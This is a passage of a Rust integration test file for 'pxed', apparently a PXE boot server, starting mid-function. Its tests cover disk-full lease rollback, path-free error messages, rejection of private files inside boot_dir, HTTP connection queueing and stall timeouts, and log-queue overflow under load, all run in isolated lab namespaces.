    std::fs::write(&cfg, config(&boot, &state, profiles())).unwrap();
    // pxed's state_dir is a 1 MiB tmpfs in a mount namespace of its own.
    let script = format!(
        "mount -t tmpfs -o size=1m pxedtest {s} && exec ip netns exec {ns} {bin} serve --config {c}",
        s = state.display(),
        ns = lab.server.name,
        bin = pxed_bin(),
        c = cfg.display()
    );
    let mut cmd = Command::new("unshare");
    cmd.args(["-m", "--propagation", "private", "sh", "-c", &script]);
    let pxed = Pxed::launch(&lab, cmd, "pxed");
    let pid = pxed.pid().to_string();
    let fill = state.join("fill");
    let (_, _, _) = run_limited(
        Command::new("nsenter")
            .args(["-t", &pid, "-m", "--", "dd", "if=/dev/zero", "bs=64k"])
            .arg(format!("of={}", fill.display())),
        Duration::from_secs(20),
    );
    let c = lab.client(KNOWN, None);
    let bound = udhcpc(&lab, &c, &[]);
    assert_eq!(bound, None, "ACKed with a full disk");
    let (_, leases) = admin(&lab, "GET", "/api/v1/leases", &[], None);
    assert_eq!(leases.trim(), "[]", "a lease the store never got is listed");
    assert!(
        pxed.log()
            .contains("lease commit failed; changes rolled back"),
        "{}",
        pxed.log()
    );
    // Room again: the next attempt is ACKed and stored.
    run_limited(
        Command::new("nsenter")
            .args(["-t", &pid, "-m", "--", "rm", "-f"])
            .arg(&fill),
        Duration::from_secs(10),
    );
    assert!(
        udhcpc(&lab, &c, &[]).is_some(),
        "no lease once the disk had room"
    );
    let (_, leases) = admin(&lab, "GET", "/api/v1/leases", &[], None);
    assert!(leases.contains(KNOWN), "{leases}");
}

#[test]
fn errors_reveal_no_paths_and_private_files_stay_out_of_boot_dir() {
    require(&["ip", "curl", "python3"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let _pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let c = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    // boot_dir vanishes under a running pxed: every error is now an OS error on its path.
    let moved = lab.path("boot-moved");
    std::fs::rename(&boot, &moved).unwrap();
    let secret = lab.dir.path().display().to_string();
    let (_, code, body) = curl(&c, &[&format!("http://{SERVER_IP}:8080/vmlinuz")], 10);
    assert!(code.starts_with('4') || code.starts_with('5'), "{code}");
    assert!(!body.contains(&secret), "HTTP body reveals a path: {body}");
    let out = run_tool(
        &c,
        &["tftp-raw", SERVER_IP, "ipxe.efi"],
        Duration::from_secs(10),
    );
    assert!(out.starts_with("error"), "{out}");
    assert!(!out.contains(&secret), "TFTP ERROR reveals a path: {out}");
    std::fs::rename(&moved, &boot).unwrap();
    // `pxed check` refuses a state_dir or token_file that TFTP and HTTP would serve.
    for (name, text) in [
        ("state.toml", config(&boot, &boot.join("state"), profiles())),
        (
            "token.toml",
            config(&boot, &lab.path("state"), profiles())
                + &format!(
                    "\n[admin]\ntoken_file = \"{}\"\n",
                    boot.join("admin.token").display()
                ),
        ),
    ] {
        let f = lab.path(name);
        std::fs::write(&f, text).unwrap();
        let out = pxed_check(&f);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{name} accepted");
        assert!(err.contains("inside boot_dir"), "{name}: {err}");
    }
}

/// Starts `n` readers of `big.bin` from `crowd`, each reading it slowly over about `secs`
/// seconds into `slow{i}.out`; returns once pxed serves all of them (each has its response
/// headers), so they hold `n` HTTP slots.
fn hold_http_slots(lab: &Lab, crowd: &Netns, n: usize, secs: &str) -> Vec<Child> {
    let url = format!("http://{SERVER_IP}:8080/big.bin");
    let slow: Vec<Child> = (0..n)
        .map(|i| {
            crowd
                .cmd("python3")
                .arg(tool("probe.py"))
                .args(["http-slow", &url])
                .arg(lab.path(&format!("slow{i}.out")))
                .arg(secs)
                .stdout(Stdio::piped())
                .spawn()
                .expect("probe.py")
        })
        .collect();
    let served = format!("pxed_requests_total{{protocol=\"http\",outcome=\"ok\"}} {n}\n");
    let deadline = Instant::now() + Duration::from_secs(10);
    while !metrics(lab).contains(&served) {
        assert!(Instant::now() < deadline, "slow downloads did not start");
        std::thread::sleep(Duration::from_millis(100));
    }
    slow
}

/// A storm fills every boot HTTP slot with downloads. The next machine's connection is not
/// refused: it waits, unread, for a slot (shown in `pxed_queue_depth`), and is served when
/// one frees.
#[test]
fn when_every_http_slot_is_busy_a_new_connection_waits_its_turn() {
    require(&["ip", "curl", "python3"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    // 64 MiB: far more than the socket buffers hold, so a slow reader keeps its slot busy.
    let big: Vec<u8> = (0..64usize << 20).map(|i| (i as u8) ^ 0x5a).collect();
    std::fs::write(boot.join("big.bin"), &big).unwrap();
    let cfg = config(&boot, &lab.path("state"), profiles());
    let cfg = cfg.replace(
        "[http]\nlisten = \"0.0.0.0:8080\"",
        "[http]\nlisten = \"0.0.0.0:8080\"\nmax_connections = 2",
    );
    assert!(cfg.contains("max_connections = 2"), "{cfg}");
    let _pxed = Pxed::start(&lab, &cfg);
    let crowd = lab.client("02:00:00:00:0b:01", Some("10.123.0.70/24"));
    let legit = lab.client("02:00:00:00:0b:02", Some("10.123.0.71/24"));
    let slow = hold_http_slots(&lab, &crowd, 2, "8");
    let out = lab.path("waited.out");
    let mut waiter = legit
        .cmd("curl")
        .args(["-sS", "--fail", "--max-time", "40", "-o"])
        .arg(&out)
        .arg(format!("http://{SERVER_IP}:8080/vmlinuz"))
        .spawn()
        .expect("curl");
    // It waits in the queue while the slow downloads hold both slots...
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let m = metrics(&lab);
        if m.contains("pxed_queue_depth{queue=\"http_connections\"} 1\n") {
            break;
        }
        assert!(Instant::now() < deadline, "no connection queued: {m}");
        std::thread::sleep(Duration::from_millis(100));
    }
    // ...and is served, byte for byte, once one of them ends.
    let status = waiter.wait().unwrap();
    assert!(status.success(), "the queued request failed");
    assert!(
        std::fs::read(&out).unwrap() == std::fs::read(boot.join("vmlinuz")).unwrap(),
        "the queued request got the wrong bytes"
    );
    for mut s in slow {
        assert!(s.wait().unwrap().success(), "a slow download failed");
    }
    for i in 0..2 {
        assert!(
            std::fs::read(lab.path(&format!("slow{i}.out"))).unwrap() == big,
            "slow download {i} got the wrong bytes"
        );
    }
    let m = metrics(&lab);
    assert_eq!(refused(&m, "http", "connection_limit"), 0, "{m}");
    assert!(
        m.contains("pxed_queue_depth{queue=\"http_connections\"} 0\n"),
        "{m}"
    );
}

#[test]
fn a_connection_that_waits_longer_than_stall_timeout_is_closed_and_counted() {
    require(&["ip", "curl", "python3"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let big: Vec<u8> = (0..64usize << 20).map(|i| (i as u8) ^ 0xa5).collect();
    std::fs::write(boot.join("big.bin"), &big).unwrap();
    let cfg = config(&boot, &lab.path("state"), profiles());
    let cfg = cfg.replace(
        "[http]\nlisten = \"0.0.0.0:8080\"",
        "[http]\nlisten = \"0.0.0.0:8080\"\nmax_connections = 1\nstall_timeout = \"2s\"",
    );
    assert!(cfg.contains("stall_timeout = \"2s\""), "{cfg}");
    let _pxed = Pxed::start(&lab, &cfg);
    let crowd = lab.client("02:00:00:00:0c:01", Some("10.123.0.72/24"));
    let legit = lab.client("02:00:00:00:0c:02", Some("10.123.0.73/24"));
    // One reader that keeps reading, slowly, holds the only slot for about 12 s.
    let mut slow = hold_http_slots(&lab, &crowd, 1, "12").remove(0);
    // A second connection waits for the slot, longer than stall_timeout: pxed closes it
    // unanswered (curl: empty reply), not curl's own limit (exit 28).
    let out = legit
        .cmd("curl")
        .args(["-sS", "--max-time", "9", "-o", "/dev/null"])
        .arg(format!("http://{SERVER_IP}:8080/vmlinuz"))
        .output()
        .expect("curl");
    let code = out.status.code();
    assert!(
        code == Some(52) || code == Some(56),
        "the waiting connection was not closed by pxed: curl exit {code:?}, {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let m = metrics(&lab);
    assert!(refused(&m, "http", "timeout") >= 1, "{m}");
    assert!(
        m.contains("pxed_queue_depth{queue=\"http_connections\"} 0\n"),
        "{m}"
    );
    // The reader that kept reading was never cut off.
    assert!(slow.wait().unwrap().success(), "the slow download failed");
    assert!(
        std::fs::read(lab.path("slow0.out")).unwrap() == big,
        "the slow download got the wrong bytes"
    );
}

/// Logs go through a bounded queue to a writer thread (src/main.rs): a log reader that stops
/// reading (a stuck journald, a full pipe) costs log lines, counted, never service.
#[test]
fn a_log_reader_that_stops_reading_costs_log_lines_not_service() {
    require(&["ip", "python3", "mkfifo", "curl"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let cfg = lab.path("stuck-log.toml");
    std::fs::write(&cfg, config(&boot, &lab.path("state"), profiles())).unwrap();
    let fifo = lab.path("stderr.fifo");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    // Read-write, so opening it waits for no other end; nobody ever reads it, so once its
    // 64 KiB are full every write(2) to it blocks.
    let stuck = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&fifo)
        .unwrap();
    let mut cmd = lab.server.cmd(pxed_bin());
    cmd.args(["serve", "--config"]).arg(&cfg);
    let _pxed = Pxed::spawn_with_stderr(&lab, &mut cmd, Stdio::from(stuck));
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let mut c = lab.server.cmd("curl");
        c.args(["-fsS", "-H", &format!("Authorization: Bearer {TOKEN}")])
            .arg("http://127.0.0.1:9091/metrics");
        if run_limited(&mut c, Duration::from_secs(5)).0 {
            break;
        }
        assert!(Instant::now() < deadline, "pxed never answered /metrics");
        std::thread::sleep(Duration::from_millis(200));
    }
    // Each request logs a line: 50,000 of them overflow the 32,768-line queue.
    let client = lab.client("02:00:00:00:0d:01", Some("10.123.0.74/24"));
    let mut probe = client.cmd("python3");
    probe
        .arg(tool("probe.py"))
        .args(["http-many", SERVER_IP, "8080", "/vmlinuz", "50000"]);
    let (ok, out, err) = run_limited(&mut probe, Duration::from_secs(300));
    assert!(ok, "probe failed: {err}");
    assert_eq!(out.trim(), "50000", "not every request was answered: {err}");
    let m = metrics(&lab);
    let dropped: u64 = m
        .lines()
        .find_map(|l| l.strip_prefix("pxed_log_lines_dropped_total "))
        .unwrap_or_else(|| panic!("no pxed_log_lines_dropped_total in {m}"))
        .parse()
        .unwrap();
    assert!(dropped > 0, "the stuck log dropped no lines: {m}");
    assert!(
        m.contains("pxed_requests_total{protocol=\"http\",outcome=\"ok\"} 50000\n"),
        "{m}"
    );
}
